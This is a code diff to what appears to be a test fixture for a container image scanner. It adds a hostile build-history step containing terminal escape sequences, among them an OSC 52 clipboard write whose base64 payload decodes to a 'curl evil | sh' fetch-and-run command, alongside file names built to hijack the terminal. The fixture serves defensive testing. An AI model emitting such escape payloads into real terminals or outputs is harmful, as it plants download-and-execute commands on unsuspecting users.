@@ -150,11 +150,17 @@ NOT_ROOT = {
 HOSTILE_NAME = "evil\x1b]0;pwned\x07\nforged line\u202e"
 
 
+HOSTILE_STEP = "RUN \x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 done"  # clears the screen, writes the clipboard
+
+
 def hostile() -> ImageSpec:
-    """World-writable files and a shell with terminal-driving names, and an entrypoint naming one."""
-    return image([E("tmpw/", "dir", mode=0o777), E(f"tmpw/{HOSTILE_NAME}", data=b"x", mode=0o666),
+    """World-writable files and an unowned shell with terminal-driving names, written by a build step
+    with one too, and an entrypoint naming one."""
+    spec = image([E("tmpw/", "dir", mode=0o777), E(f"tmpw/{HOSTILE_NAME}", data=b"x", mode=0o666),
                   E("bin/", "dir"), E("bin/sh", data=ELF, mode=0o755)],
                  config={"Entrypoint": [f"/{HOSTILE_NAME}"]})
+    spec.history = [{"created_by": "debootstrap"}, {"created_by": HOSTILE_STEP}]
+    return spec
 
 
 def many_world_writable(count: int) -> ImageSpec:
